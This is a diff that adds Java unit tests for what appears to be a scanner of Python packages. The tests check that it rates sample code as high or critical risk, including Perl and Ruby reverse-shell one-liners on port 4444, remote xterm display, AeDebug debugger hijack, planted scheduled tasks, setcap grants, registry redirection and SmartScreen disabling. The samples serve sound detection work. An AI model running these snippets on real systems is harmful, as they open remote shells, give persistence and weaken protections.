@@ -3097,6 +3097,99 @@ class ContentRuleTest {
         .doesNotContain("plants-dll-beside-program");
   }
 
+  @Test
+  void crashDebuggersFileCapabilitiesAndTaskFilesAreHigh() {
+    String aeDebug =
+        "import winreg\nwith winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, "
+            + "r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AeDebug') as k:\n"
+            + "    winreg.SetValueEx(k, 'Debugger', 0, winreg.REG_SZ, COMMAND)\n";
+    String setcap =
+        "import subprocess\nsubprocess.run(['setcap', 'cap_net_raw,cap_setuid+ep', COPY])\n";
+    String taskFile =
+        "import os\nTASK = '''<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
+            + "<Actions><Exec><Command>agent.exe</Command></Exec></Actions></Task>'''\n"
+            + "path = os.path.join(ROOT, 'System32', 'Tasks', 'Updater')\n"
+            + "with open(path, 'w', encoding='utf-16') as fh:\n    fh.write(TASK)\n";
+    String debuggerRead =
+        "import winreg\nwith winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "
+            + "r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AeDebug') as k:\n"
+            + "    current = winreg.QueryValueEx(k, 'Debugger')[0]\n";
+    String rawSockets = "import subprocess\nsubprocess.run(['setcap', 'cap_net_raw+ep', PYTHON])\n";
+    String tasksListed = "import os\nnames = os.listdir(os.path.join(ROOT, 'System32', 'Tasks'))\n";
+
+    assertThat(levelIn(aeDebug, "crash-debugger-set")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(setcap, "grants-capabilities")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(taskFile, "plants-scheduled-task")).isEqualTo(RiskLevel.HIGH);
+    // the crash debugger read, raw sockets granted (as scapy's documentation suggests), the
+    // task folder listed
+    assertThat(check(wheelWith("pkg/dbg.py", debuggerRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/caps.py", rawSockets))).isEmpty();
+    assertThat(check(wheelWith("pkg/tasks.py", tasksListed))).isEmpty();
+  }
+
+  @Test
+  void otherRegistriesRedirectedOrInstalledFromAreFlagged() {
+    String npmrc =
+        "import os\nwith open(os.path.join(HOME, '.npmrc'), 'a') as fh:\n"
+            + "    fh.write('registry=https://mirror.example/\\n')\n";
+    String yarn =
+        "import subprocess\nsubprocess.run(['yarn', 'config', 'set', 'registry', MIRROR])\n";
+    String global = "import subprocess\nsubprocess.run(['npm', 'install', '-g', 'left-padder'])\n";
+    String yarnGlobal = "import os\nos.system('yarn global add left-padder')\n";
+    String unchecked =
+        "import os, subprocess\nenv = dict(os.environ, GONOSUMDB='*')\n"
+            + "subprocess.run(['go', 'run', 'git.example.org/tools/warm@latest'], env=env)\n";
+    String started =
+        "import subprocess\nsubprocess.run([NPM, 'install', '--global', 'left-padder@2'])\n"
+            + "subprocess.Popen(['left-padder', '--serve'])\n";
+    String npmrcRead = "import os\npath = os.path.join(HOME, '.npmrc')\nprint('config:', path)\n";
+    String advice =
+        "def hint():\n    print(\"Install the CLI with 'npm install -g @example/cli'.\")\n";
+    String local =
+        "import subprocess\nsubprocess.run(['npm', 'install'], cwd=APP)\n"
+            + "subprocess.run(['go', 'install', './...'], cwd=APP)\n";
+
+    assertThat(levelIn(npmrc, "package-registry-redirected")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(yarn, "package-registry-redirected")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(global, "installs-global-package")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(yarnGlobal, "installs-global-package")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(unchecked, "runs-unverified-remote-package")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(started, "runs-what-it-installed")).isEqualTo(RiskLevel.HIGH);
+    // npm's configuration shown, an install hint printed, a project's own dependencies built
+    assertThat(check(wheelWith("pkg/paths.py", npmrcRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/hint.py", advice))).isEmpty();
+    assertThat(check(wheelWith("pkg/build.py", local))).isEmpty();
+  }
+
+  @Test
+  void shellsOverSocketsRemoteTerminalsAndSmartScreenOffAreFlagged() {
+    String perl =
+        "import subprocess\nsubprocess.Popen(['perl', '-e', 'use Socket;socket(S,PF_INET,"
+            + "SOCK_STREAM,6);if(connect(S,sockaddr_in(4444,inet_aton(H)))){open(STDIN,\">&S\");"
+            + "exec(\"/bin/sh -i\");};'])\n";
+    String ruby =
+        "import os\nos.system(\"ruby -rsocket -e 'f=TCPSocket.open(H,4444).to_i;"
+            + "exec sprintf(\\\"/bin/sh -i <&%d >&%d 2>&%d\\\",f,f,f)'\")\n";
+    String xterm = "import subprocess\nsubprocess.Popen(['xterm', '-display', '100.64.0.9:1'])\n";
+    String smartScreen =
+        "import winreg\nwith winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, EXPLORER) as k:\n"
+            + "    winreg.SetValueEx(k, 'SmartScreenEnabled', 0, winreg.REG_SZ, 'Off')\n";
+    String perlAddress = "ADDRESS = 'my $addr = sockaddr_in($port, inet_aton($host));'\n";
+    String xvfb = "import subprocess\nsubprocess.Popen(['xterm', '-display', ':99'])\n";
+    String smartScreenRead =
+        "import winreg\nwith winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, EXPLORER) as k:\n"
+            + "    state = winreg.QueryValueEx(k, 'SmartScreenEnabled')[0]\n";
+
+    assertThat(levelIn(perl, "socket-shell-script")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(ruby, "socket-shell-script")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(xterm, "remote-display-terminal")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(smartScreen, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    // a socket address in Perl, a terminal on the local virtual display, SmartScreen's state read
+    assertThat(check(wheelWith("pkg/perl.py", perlAddress))).isEmpty();
+    assertThat(check(wheelWith("pkg/xvfb.py", xvfb))).isEmpty();
+    assertThat(check(wheelWith("pkg/state.py", smartScreenRead))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
